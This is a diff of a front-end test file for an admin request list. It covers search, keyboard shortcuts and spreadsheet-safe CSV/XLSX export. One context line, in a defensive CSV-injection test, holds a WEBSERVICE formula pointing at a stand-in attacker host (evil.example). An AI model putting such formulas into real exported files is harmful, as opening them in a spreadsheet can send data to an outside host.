@@ -79,7 +79,9 @@ test('tabs, search, order and filters narrow it, one on top of the other, and ar
   await waitFor(() => expect(references()).toEqual(REFERENCES.toReversed()));
   await userEvent.selectOptions(screen.getByLabelText('Order'), 'Waiting longest');
   await waitFor(() => expect(references()).toEqual(['Q-261120-ANN', 'Q-261120-BOB', 'Q-261120-CAT']));
-  await userEvent.type(screen.getByLabelText('Search'), 'cat');
+  await userEvent.type(screen.getByLabelText('Search'), 'c');
+  expect(screen.getByText('Type at least two letters.')).toBeVisible();
+  await userEvent.type(screen.getByLabelText('Search'), 'at');
   await waitFor(() => expect(references()).toEqual(['Q-261120-CAT']));
   await userEvent.click(screen.getByRole('button', { name: 'More filters' }));
   await userEvent.selectOptions(screen.getByLabelText('E-mails'), 'Not delivered');
@@ -87,12 +89,6 @@ test('tabs, search, order and filters narrow it, one on top of the other, and ar
   await userEvent.click(screen.getByRole('button', { name: 'Clear the filters' }));
   await waitFor(() => expect(references()).toHaveLength(3));
   expect(screen.getByLabelText('Search')).toHaveValue('');
-});
-
-test('says that one letter finds nothing', async () => {
-  open(THREE);
-  await userEvent.type(await screen.findByLabelText('Search'), 'c');
-  expect(screen.getByText('Type at least two letters.')).toBeVisible();
 });
 
 test('pages of 50; the next one and back to the first', async () => {
@@ -106,8 +102,16 @@ test('pages of 50; the next one and back to the first', async () => {
   await waitFor(() => expect(references()).toHaveLength(50));
 });
 
-test('by keyboard: the slash searches, the arrows go from row to row', async () => {
-  open(THREE);
+test('by keyboard: the arrows go from row to row, the slash searches, n begins a request, unless single keys are switched off', async () => {
+  const Place = () => <p data-testid="place">{useLocation().pathname}</p>;
+  renderAdmin(
+    browserAdminPorts({ leads: THREE }),
+    <>
+      <Place />
+      <DeskPage />
+    </>,
+  );
+  const place = () => screen.getByTestId('place').textContent;
   await waitFor(() => expect(references()).toEqual(REFERENCES));
   await userEvent.keyboard('{ArrowDown}');
   expect(screen.getByRole('link', { name: 'Q-261120-CAT' })).toHaveFocus();
@@ -117,31 +121,17 @@ test('by keyboard: the slash searches, the arrows go from row to row', async () 
   expect(screen.getByRole('link', { name: 'Q-261120-CAT' })).toHaveFocus();
   // WCAG 2.1.4: a character alone is a shortcut only as long as nobody switches it off.
   localStorage.setItem('admin-single-keys', 'off');
-  await userEvent.keyboard('/');
+  await userEvent.keyboard('/n');
   expect(screen.getByRole('link', { name: 'Q-261120-CAT' })).toHaveFocus();
+  expect(place()).toBe('/admin');
   localStorage.removeItem('admin-single-keys');
   await userEvent.keyboard('/');
   expect(screen.getByLabelText('Search')).toHaveFocus();
-  await userEvent.keyboard('a/');
-  expect(screen.getByLabelText('Search')).toHaveValue('a/');
-});
-
-test('by keyboard: n begins a new request, unless single keys are switched off', async () => {
-  const Place = () => <p data-testid="place">{useLocation().pathname}</p>;
-  renderAdmin(
-    browserAdminPorts({ leads: THREE }),
-    <>
-      <Place />
-      <DeskPage />
-    </>,
-  );
-  await waitFor(() => expect(references()).toEqual(REFERENCES));
-  localStorage.setItem('admin-single-keys', 'off');
+  await userEvent.keyboard('n/');
+  expect(screen.getByLabelText('Search')).toHaveValue('n/');
+  (document.activeElement as HTMLElement).blur();
   await userEvent.keyboard('n');
-  expect(screen.getByTestId('place')).toHaveTextContent(/^\/admin$/);
-  localStorage.removeItem('admin-single-keys');
-  await userEvent.keyboard('n');
-  expect(screen.getByTestId('place')).toHaveTextContent('/admin/requests/new');
+  expect(place()).toBe('/admin/requests/new');
 });
 
 test('what came in meanwhile appears by itself', async () => {
@@ -228,30 +218,17 @@ test('a text that a spreadsheet would run is none in the file', () => {
   expect(inner).toContain(`"Asha;'=WEBSERVICE(""https://evil.example"");","A\t' @SUM(1)"`);
 });
 
+/** What Excel would make a number, a date or a formula of is written as one, whose result is the text. */
+const AS_FORMULAS =
+  '00123|0091 98765 43210|123456789012345678|1-2|3/4|1E5|2e10|+91 98765 43210|12 Nov|MARCH1|10:30|5 1/2|(500)|TRUE';
+const AS_THEY_ARE = '125000|99.50|2026-11-25|Marble paper 5|23 x 36';
+
 test.each([
-  ['00123', '="00123"'],
-  ['0091 98765 43210', '="0091 98765 43210"'],
-  ['123456789012345678', '="123456789012345678"'],
-  ['1-2', '="1-2"'],
-  ['3/4', '="3/4"'],
-  ['1E5', '="1E5"'],
-  ['2e10', '="2e10"'],
-  ['+91 98765 43210', '="+91 98765 43210"'],
-  ['+919876543210', '="+919876543210"'],
-  ['12 Nov', '="12 Nov"'],
-  ['MARCH1', '="MARCH1"'],
-  ['10:30', '="10:30"'],
-  ['5 1/2', '="5 1/2"'],
-  ['(500)', '="(500)"'],
-  ['TRUE', '="TRUE"'],
-  ['125000', '125000'],
-  ['99.50', '99.50'],
-  ['2026-11-25', '2026-11-25'],
-  ['Marble paper 5', 'Marble paper 5'],
-  ['23 x 36', '23 x 36'],
+  ...AS_FORMULAS.split('|').map((text) => [text, `=""${text}""`] as const),
+  ...AS_THEY_ARE.split('|').map((text) => [text, text] as const),
 ])('%s stays what it is when Excel opens the file', (company, cell) => {
   const row: DeskRow = { ...lead('a'), categories: [], papers: [], samples: [], company, mail: 'fine' };
-  expect(csvOf(REQUEST_COLUMNS, [row])).toContain(`,"${cell.replaceAll('"', '""')}",`);
+  expect(csvOf(REQUEST_COLUMNS, [row])).toContain(`,"${cell}",`);
   const sheet = strFromU8(
     unzipSync(xlsxOf('Requests', REQUEST_COLUMNS, [row]))['xl/worksheets/sheet1.xml'] ?? new Uint8Array(),
   );
